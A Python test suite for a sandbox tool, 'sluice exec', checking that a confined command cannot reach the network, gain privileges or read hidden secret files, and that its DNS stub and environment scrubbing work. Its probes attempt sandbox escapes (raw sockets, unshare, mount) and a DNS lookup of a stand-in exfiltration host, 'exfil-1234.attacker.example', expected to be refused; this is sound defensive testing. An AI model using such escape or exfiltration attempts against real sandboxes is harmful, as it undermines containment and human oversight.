#!/usr/bin/env python3
"""The sandbox of `sluice exec`, piece by piece (proxy/sandbox; DESIGN.md
"sluice exec: a sandbox in one line"), through tests/tools/sandbox_run.

A command runs in the full confinement, as root and as an unprivileged
user (uid 65534, through a user namespace), and a probe inside checks the
walls: only lo and no route (IPv4 or IPv6), a TCP connect and a ping to
198.18.x.y fail, raw, packet and non-route netlink sockets are refused,
`unshare -n` and `mount` fail, /proc/self/status shows NoNewPrivs 1, no
capability in any set or the bounding set, seccomp mode 2; the hidden
files and directories read as empty, resolv.conf is the generated one, and
the sockets planted for the parent answer from outside (the parent got
them over the socketpair and serves them from its namespace). Exit
statuses propagate (7, a signal as 128+N, a forwarded SIGTERM), the
environment builder drops a variable holding an injected secret, Landlock
limits the filesystem when asked, and a user namespace refused by
user.max_user_namespaces gives one line naming it.
"""

import ast
import ctypes
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import unittest

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "lib"))

from sluicetest import base  # noqa: E402

TOOL = os.path.join(base.ENV.tools, "sandbox_run")
NOBODY = 65534
UNREACHABLE = "198.18.%d.%d" % (os.getpid() % 250 + 1, 7)
SECRET = "sk-test-%d-do-not-leak" % os.getpid()
RESOLV = "# sluice exec\nnameserver 127.0.0.53\noptions edns0 trust-ad\n"
PLANT = ["tcp:127.0.0.1:3128", "tcp:127.77.0.1:443", "tcp:127.77.0.1:80",
         "udp:127.0.0.53:53", "tcp:127.0.0.53:53"]

# Runs inside the sandbox; prints one JSON object of what it saw.
PROBE = r"""
import errno, json, os, socket, subprocess, sys
hidden_file, hidden_dir = sys.argv[1], sys.argv[2]
r = {}
def sh(argv):
    try:
        p = subprocess.run(argv, capture_output=True, text=True)
    except OSError as e:  # ping's file capabilities under no_new_privs
        return -e.errno, "", str(e)
    return p.returncode, p.stdout, p.stderr
def err(f):
    try:
        f()
        return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
r["uid"] = os.getuid()
r["fds"] = {}
for f in os.listdir("/proc/self/fd"):
    try:
        r["fds"][f] = os.readlink("/proc/self/fd/" + f)
    except OSError:
        pass  # the listing's own descriptor, closed by now
r["ip_link"] = sh(["ip", "-o", "link"])[1]
r["ip_route"] = sh(["ip", "route"])[1]
r["ip6_route"] = sh(["ip", "-6", "route"])[1]
def connect():
    socket.create_connection((%(far)r, 80), timeout=3).close()
r["connect"] = err(connect)
def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b"\x08\0\0\0\0\0\0\0", (%(far)r, 0))
r["icmp_dgram"] = err(icmp)
r["ping"] = sh(["ping", "-c", "1", "-W", "1", %(far)r])[0]
r["raw"] = err(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
r["raw6"] = err(lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58))
r["packet"] = err(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
r["netlink_audit"] = err(lambda: socket.socket(socket.AF_NETLINK,
                                               socket.SOCK_RAW, 9))
r["netlink_route"] = err(lambda: socket.socket(socket.AF_NETLINK,
                                               socket.SOCK_RAW, 0))
r["vsock"] = err(lambda: socket.socket(40, socket.SOCK_STREAM, 0))
r["unshare"] = sh(["unshare", "-n", "true"])[0]
r["unshare_user"] = sh(["unshare", "-U", "true"])[0]
r["mount"] = sh(["mount", "-t", "tmpfs", "none", "/mnt"])[0]
st = {}
for line in open("/proc/self/status"):
    k, _, v = line.partition(":")
    st[k] = v.strip()
r["status"] = {k: st.get(k) for k in ("NoNewPrivs", "CapInh", "CapPrm",
               "CapEff", "CapBnd", "CapAmb", "Seccomp")}
r["hidden_file"] = open(hidden_file, "rb").read().decode()
r["hidden_dir"] = sorted(os.listdir(hidden_dir))
r["resolv"] = open("/etc/resolv.conf").read()
def greet(addr):
    s = socket.create_connection(addr, timeout=3)
    d = s.recv(100).decode()
    s.close()
    return d
r["planted"] = [greet(("127.0.0.1", 3128)), greet(("127.77.0.1", 443)),
                greet(("127.77.0.1", 80)), greet(("127.0.0.53", 53))]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
u.sendto(b"dns?", ("127.0.0.53", 53))
r["planted_udp"] = u.recv(100).decode()
u.close()
print(json.dumps(r))
""" % {"far": UNREACHABLE}


def as_user(argv):
    return ["setpriv", "--reuid", str(NOBODY), "--regid", str(NOBODY),
            "--clear-groups"] + argv


def userns_works():
    p = subprocess.run(as_user(["unshare", "-U", "-n", "true"]),
                       capture_output=True)
    return p.returncode == 0


class SandboxCase(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = base.make_tmpdir("sandbox")
        os.chmod(cls.tmp, 0o755)  # readable by uid 65534
        cls.probe = os.path.join(cls.tmp, "probe.py")
        with open(cls.probe, "w") as f:
            f.write(PROBE)
        # What the wall must hide: a secret file, a state directory with
        # a file in it, an audit log; all world-readable, so only the
        # wall stands between them and uid 65534.
        cls.secret = os.path.join(cls.tmp, "model.key")
        cls.state = os.path.join(cls.tmp, "state")
        cls.audit = os.path.join(cls.tmp, "audit.log")
        with open(cls.secret, "w") as f:
            f.write(SECRET + "\n")
        os.mkdir(cls.state)
        with open(os.path.join(cls.state, "budget.db"), "w") as f:
            f.write("counts")
        with open(cls.audit, "w") as f:
            f.write('{"event":"http.request"}\n')
        for p in (cls.secret, cls.audit, os.path.join(cls.state,
                                                      "budget.db")):
            os.chmod(p, 0o644)
        os.chmod(cls.state, 0o755)

    def run_tool(self, opts, cmd, user=False, timeout=60, env=None):
        argv = [TOOL] + opts + ["--"] + cmd
        if user:
            argv = as_user(argv)
        return subprocess.run(argv, capture_output=True, text=True,
                              timeout=base.ENV.slow(timeout), env=env)

    def walls(self, user):
        opts = ["--resolv", RESOLV, "--hide", self.secret, "--hide",
                self.state, "--hide", self.audit]
        for p in PLANT:
            opts += ["--listen", p]
        p = self.run_tool(opts, ["python3", self.probe, self.secret,
                                 self.state], user=user)
        self.assertEqual(p.returncode, 0, p.stderr)
        r = json.loads(p.stdout)
        self.assertEqual(r["uid"], NOBODY if user else 0)
        links = r["ip_link"].strip().splitlines()
        self.assertEqual(len(links), 1, r["ip_link"])
        self.assertIn(": lo:", links[0])
        self.assertIn("UP", links[0])
        self.assertEqual(r["ip_route"].strip(), "")
        self.assertEqual(r["ip6_route"].strip(), "")
        self.assertEqual(r["connect"], "ENETUNREACH")
        self.assertIn(r["icmp_dgram"], ("ENETUNREACH", "EACCES"))
        self.assertNotEqual(r["ping"], 0)
        for k in ("raw", "raw6", "packet", "netlink_audit", "vsock"):
            self.assertEqual(r[k], "EPERM", k)
        self.assertEqual(r["netlink_route"], "ok")  # ip(8) needs it
        self.assertNotEqual(r["unshare"], 0)
        self.assertNotEqual(r["unshare_user"], 0)
        self.assertNotEqual(r["mount"], 0)
        zero = "0000000000000000"
        self.assertEqual(r["status"], {
            "NoNewPrivs": "1", "CapInh": zero, "CapPrm": zero,
            "CapEff": zero, "CapBnd": zero, "CapAmb": zero, "Seccomp": "2"})
        self.assertEqual(r["hidden_file"], "")
        self.assertEqual(r["hidden_dir"], [])
        self.assertEqual(r["resolv"], RESOLV)
        for got, port in zip(r["planted"], (3128, 443, 80, 53)):
            self.assertTrue(got.startswith("outside %d fd " % port), got)
        self.assertEqual(r["planted_udp"], "pong:dns?")
        # Nothing of the parent's is inherited (no listener, no channel):
        # beyond stdio, only the directory os.listdir had open.
        self.assertEqual([v for f, v in r["fds"].items()
                          if int(f) > 2], [], r["fds"])
        # Nothing is left on the host: the wall lived in the child's
        # mount namespace only.
        with open(self.secret) as f:
            self.assertEqual(f.read(), SECRET + "\n")
        self.assertEqual(os.listdir(self.state), ["budget.db"])
        self.assertFalse([d for d in os.listdir("/tmp")
                          if d.startswith(".sluice-resolv-")])

    def test_walls_root(self):
        self.walls(user=False)

    def test_walls_unprivileged(self):
        if not userns_works():
            self.skipTest("unprivileged user namespaces are off here")
        self.walls(user=True)

    def test_exit_status(self):
        for user in (False, True):
            if user and not userns_works():
                continue
            p = self.run_tool([], ["sh", "-c", "exit 7"], user=user)
            self.assertEqual(p.returncode, 7)
            p = self.run_tool([], ["sh", "-c", "kill -TERM $$"], user=user)
            self.assertEqual(p.returncode, 143)
            p = self.run_tool([], ["sh", "-c", "kill -KILL $$"], user=user)
            self.assertEqual(p.returncode, 137)
            p = self.run_tool([], ["/nonexistent/cmd"], user=user)
            self.assertEqual(p.returncode, 127)
            self.assertIn("exec /nonexistent/cmd: No such file", p.stderr)

    def test_dns_stub(self):
        """The DNS stub served on the planted 127.0.0.53:53 sockets
        (UDP and TCP, the resolv.conf pointing there): glibc resolves a
        mapped name to its 127.77.0.N and connects to the listener
        planted there, any other name is NXDOMAIN, a malformed query gets
        FORMERR with its id, a response gets nothing; each query is
        logged with its decision. (getent ahosts, not ahostsv4: with
        only lo, glibc's AI_ADDRCONFIG for AF_INET gives up without
        asking.)"""
        probe = r"""
import socket, struct, subprocess, sys
out = []
def getent(name):
    p = subprocess.run(["getent", "ahosts", name], capture_output=True,
                       text=True)
    return p.returncode, sorted(set(l.split()[0]
                                    for l in p.stdout.splitlines()))
out.append(getent("API.example.com"))
out.append(getent("exfil-1234.attacker.example"))
a = socket.getaddrinfo("api.example.com", 443, socket.AF_INET,
                       socket.SOCK_STREAM)[0][4]
c = socket.create_connection(a, timeout=3)
out.append(c.recv(64).decode())
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
u.sendto(struct.pack("!HHHHHH", 0x4242, 0x0100, 2, 0, 0, 0) + b"\0",
         ("127.0.0.53", 53))
out.append(list(u.recv(512)[:4]))
u.sendto(struct.pack("!HHHHHH", 0x4343, 0x8180, 1, 0, 0, 0) +
         b"\x01a\0\0\x01\0\x01", ("127.0.0.53", 53))
try:
    u.recv(512)
    out.append("answered")
except socket.timeout:
    out.append("silent")
print(repr(out))
"""
        for resolv in ("", "options use-vc\n"):
            conf = ("nameserver 127.0.0.53\noptions timeout:1 attempts:1\n"
                    + resolv)
            opts = ["--resolv", conf, "--dns", "api.example.com=127.77.0.1",
                    "--listen", "udp:127.0.0.53:53", "--listen",
                    "tcp:127.0.0.53:53", "--listen", "tcp:127.77.0.1:443"]
            p = self.run_tool(opts, ["python3", "-c", probe])
            self.assertEqual(p.returncode, 0, p.stderr)
            out = ast.literal_eval(p.stdout)
            self.assertEqual(out[0], (0, ["127.77.0.1"]), resolv)
            self.assertEqual(out[1], (2, []), resolv)
            self.assertTrue(out[2].startswith("outside 443 fd "), out)
            self.assertEqual(out[3], [0x42, 0x42, 0x85, 0x81])  # FORMERR
            self.assertEqual(out[4], "silent")
            log = p.stderr.splitlines()
            self.assertIn("dns.query api.example.com 1 answer", log)
            self.assertIn("dns.query exfil-1234.attacker.example 1 "
                          "nxdomain", log)
            self.assertIn("dns.query - 0 formerr", log)
            self.assertIn("dns.query - 0 drop", log)

    def test_user(self):
        """Root may run the command as another uid/gid (groups: that gid
        alone); an unprivileged caller may not."""
        p = self.run_tool(["--user", "%d:%d" % (NOBODY, NOBODY)],
                          ["sh", "-c", "id -u; id -g; id -G; "
                           "grep -E '^(Uid|Gid|CapBnd)' /proc/self/status"])
        self.assertEqual(p.returncode, 0, p.stderr)
        lines = p.stdout.splitlines()
        self.assertEqual(lines[:3], [str(NOBODY)] * 3)
        self.assertEqual(lines[3].split()[1:], [str(NOBODY)] * 4)
        self.assertEqual(lines[5].split()[1], "0000000000000000")
        if userns_works():
            p = self.run_tool(["--user", "0:0"], ["true"], user=True)
            self.assertEqual(p.returncode, 125)
            self.assertIn("only root may run the command as another user",
                          p.stderr)

    def sleeping_child(self, proc):
        """The pid of the sandboxed sleep once it runs, else None."""
        def read(path):
            try:
                with open(path) as f:
                    return f.read()
            except OSError:
                return ""

        def find():
            for k in read("/proc/%d/task/%d/children" %
                          (proc.pid, proc.pid)).split():
                if read("/proc/%s/comm" % k).strip() == "sleep":
                    return int(k)
            return None
        return base.wait_until(find, base.ENV.slow(10))

    def test_dies_with_parent(self):
        """SIGKILL to the parent (nothing to forward) still ends the
        command: the parent death signal."""
        proc = base.Proc([TOOL, "--", "sleep", "60"], "orphan", self.tmp)
        kid = self.sleeping_child(proc)
        self.assertIsNotNone(kid)
        proc.signal(signal.SIGKILL)
        proc.wait(base.ENV.slow(10))

        def gone():
            try:
                with open("/proc/%d/comm" % kid) as f:
                    return f.read().strip() != "sleep"
            except OSError:
                return True
        self.assertTrue(base.wait_until(gone, base.ENV.slow(5)))

    def test_sigterm_forwarded(self):
        proc = base.Proc([TOOL, "--", "sleep", "60"], "sleep", self.tmp)

        def sleeping():
            def read(path):
                try:
                    with open(path) as f:
                        return f.read()
                except OSError:
                    return ""
            kids = read("/proc/%d/task/%d/children" %
                        (proc.pid, proc.pid)).split()
            return any(read("/proc/%s/comm" % k).strip() == "sleep"
                       for k in kids)
        self.assertTrue(base.wait_until(sleeping, base.ENV.slow(10)))
        start = time.monotonic()
        proc.signal(signal.SIGTERM)
        self.assertEqual(proc.wait(base.ENV.slow(10)), 143)
        self.assertLess(time.monotonic() - start, base.ENV.slow(5))

    def test_environment(self):
        env = dict(os.environ)
        env.update({"LEAKY": SECRET, "KEEP": "fine",
                    "HTTPS_PROXY": "http://elsewhere:1"})
        p = self.run_tool(["--token", "tok.en-1", "--secret", SECRET],
                          ["env"], env=env)
        self.assertEqual(p.returncode, 0, p.stderr)
        lines = p.stdout.splitlines()
        self.assertNotIn(SECRET, p.stdout)
        self.assertIn("KEEP=fine", lines)
        self.assertIn("HTTPS_PROXY=http://run:tok.en-1@127.0.0.1:3128",
                      lines)
        self.assertIn("NODE_USE_ENV_PROXY=1", lines)
        self.assertIn("LEAKY removed from the environment", p.stderr)
        self.assertNotIn(SECRET, p.stderr)
        p = self.run_tool(["--token", "t", "--clean-env", "--profile",
                           "anthropic", "--base-url",
                           "http://127.0.0.1:8080"], ["env"], env=env)
        names = sorted(line.split("=", 1)[0]
                       for line in p.stdout.splitlines())
        self.assertNotIn("KEEP", names)
        self.assertIn("ANTHROPIC_API_KEY=t", p.stdout.splitlines())

    def test_landlock(self):
        abi = ctypes.CDLL(None, use_errno=True).syscall(444, None, 0, 1)
        ro = ["--landlock-ro", "/usr", "--landlock-ro", "/proc"]
        for d in ("/lib", "/lib64", "/bin"):
            if os.path.exists(d):
                ro += ["--landlock-ro", d]
        rw = os.path.join(self.tmp, "rw")
        os.makedirs(rw, exist_ok=True)
        os.chmod(rw, 0o777)
        opts = ["--landlock"] + ro + ["--landlock-rw", rw]
        if abi <= 0:
            p = self.run_tool(opts, ["true"])
            self.assertEqual(p.returncode, 125)
            self.assertIn("landlock: asked for", p.stderr)
            return
        p = self.run_tool(opts, ["sh", "-c",
                                 "echo hi > %s/f && cat %s/f && "
                                 "cat %s" % (rw, rw, self.secret)])
        self.assertEqual(p.stdout, "hi\n")
        self.assertNotEqual(p.returncode, 0)
        self.assertIn("Permission denied", p.stderr)
        # A path that does not exist is refused before anything runs.
        p = self.run_tool(["--landlock", "--landlock-ro", "/nonexistent"],
                          ["true"])
        self.assertEqual(p.returncode, 125)
        self.assertIn("landlock: /nonexistent", p.stderr)

    def test_userns_refused(self):
        """A user namespace whose user.max_user_namespaces is 0 (set in a
        namespace of the test's own, so the host's stays as it was): the
        unprivileged sandbox says which sysctl refuses it."""
        if not userns_works():
            self.skipTest("unprivileged user namespaces are off here")
        libc = ctypes.CDLL(None, use_errno=True)
        r, w = os.pipe()
        r2, w2 = os.pipe()
        pid = os.fork()
        if pid == 0:
            try:
                os.close(r)
                os.close(w2)
                rc = libc.unshare(0x10000000)  # CLONE_NEWUSER
                os.write(w, b"u" if rc == 0 else b"e")
                os.read(r2, 1)  # the maps are written
                with open("/proc/sys/user/max_user_namespaces", "w") as f:
                    f.write("0")
                fd = os.open(os.path.join(self.tmp, "refused.err"),
                             os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
                os.setresgid(NOBODY, NOBODY, NOBODY)
                os.setresuid(NOBODY, NOBODY, NOBODY)
                os.dup2(fd, 2)
                os.execv(TOOL, [TOOL, "--", "true"])
            except BaseException as e:
                os.write(2, ("child: %r\n" % e).encode())
            finally:
                os._exit(99)
        base.CLEANUP.push(lambda: base.pid_alive(pid) and
                          os.kill(pid, signal.SIGKILL))
        os.close(w)
        os.close(r2)
        self.assertEqual(os.read(r, 1), b"u")
        for m in ("uid_map", "gid_map"):
            with open("/proc/%d/%s" % (pid, m), "w") as f:
                f.write("0 0 65536\n")
        os.write(w2, b"g")
        _, st = os.waitpid(pid, 0)
        os.close(r)
        os.close(w2)
        self.assertEqual(os.waitstatus_to_exitcode(st), 125)
        with open(os.path.join(self.tmp, "refused.err")) as f:
            err = f.read()
        self.assertEqual(len(err.strip().splitlines()), 1, err)
        self.assertIn("sysctl user.max_user_namespaces is 0", err)
        self.assertIn("run as root", err)


def main():
    base.require_root()
    for tool in ("setpriv", "unshare", "ip"):
        if shutil.which(tool) is None:
            print("skipped: %s is not installed" % tool, file=sys.stderr)
            sys.exit(base.SKIP)
    if not os.access(TOOL, os.X_OK):
        print("sandbox_run not found at %s (set SLUICE_TOOLS)" % TOOL,
              file=sys.stderr)
        sys.exit(1)
    base.install_handlers()
    prog = unittest.main(exit=False, verbosity=2)
    errors = base.CLEANUP.run()
    for e in errors:
        print("cleanup: %s" % e, file=sys.stderr)
    sys.exit(0 if prog.result.wasSuccessful() and not errors else 1)


if __name__ == "__main__":
    main()
